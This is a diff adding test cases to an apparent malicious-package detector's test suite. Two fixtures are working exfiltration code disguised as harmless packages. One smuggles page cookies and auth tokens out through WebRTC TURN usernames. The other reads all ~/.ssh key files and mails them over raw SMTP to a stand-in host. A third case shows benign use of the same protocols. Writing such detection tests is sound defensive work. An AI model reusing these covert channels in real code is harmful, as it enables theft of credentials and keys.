@@ -3176,3 +3176,49 @@ if ping -c 1 -W 1 "$MIRROR" >/dev/null 2>&1; then echo "mirror $MIRROR reachable
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('more exfiltration channels (round 26)', () => {
+  it("a page's tokens and cookies carried in a TURN server's username (WebRTC, no fetch)", () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'perf-hints', version: '1.0.0', main: 'dist/index.js' }),
+      'dist/index.js': `function probe() {
+  const bag = { c: document.cookie, t: localStorage.getItem('auth_token') };
+  const data = btoa(JSON.stringify(bag));
+  (data.match(/.{1,200}/g) || []).forEach((p, i) => {
+    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:turn.example-relay.net:3478', username: i + ':' + p, credential: 'x' }], iceTransportPolicy: 'relay' });
+    pc.createDataChannel('rtt');
+    pc.createOffer().then((o) => pc.setLocalDescription(o));
+  });
+}
+setTimeout(probe, 3000);
+export const hints = [];`,
+    });
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('key files sent line by line from a socket handler that steps through a script with a counter kept outside it', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'ssh-conf', version: '2.0.0', main: 'index.js' }),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), net = require('net');
+const dir = path.join(os.homedir(), '.ssh');
+const files = {};
+for (const n of fs.readdirSync(dir)) files[n] = fs.readFileSync(path.join(dir, n));
+const body = Object.entries(files).map(([n, b]) => n + ':' + b.toString('base64')).join('\\r\\n');
+const script = ['EHLO relay', 'MAIL FROM:<a@relay.example-mail.net>', 'DATA', body, '.', 'QUIT'];
+const sock = net.connect({ host: 'mx.example-mail.net', port: 25 });
+let step = 0;
+sock.on('data', () => { if (step < script.length) sock.write(script[step++] + '\\r\\n'); });
+module.exports = {};`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('quiet: a video-call SDK given TURN credentials by its caller, and an SMTP client stepping through its own greeting', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'call-sdk', version: '1.0.0', main: 'index.js' }),
+      'index.js': `exports.connect = (turn) => new RTCPeerConnection({ iceServers: [{ urls: turn.url, username: turn.user, credential: turn.pass }] });
+const net = require('net');
+exports.hello = (host) => { const s = net.connect({ host, port: 25 }); const lines = ['EHLO client', 'QUIT']; let i = 0; s.on('data', () => { if (i < lines.length) s.write(lines[i++] + '\\r\\n'); }); return s; };`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
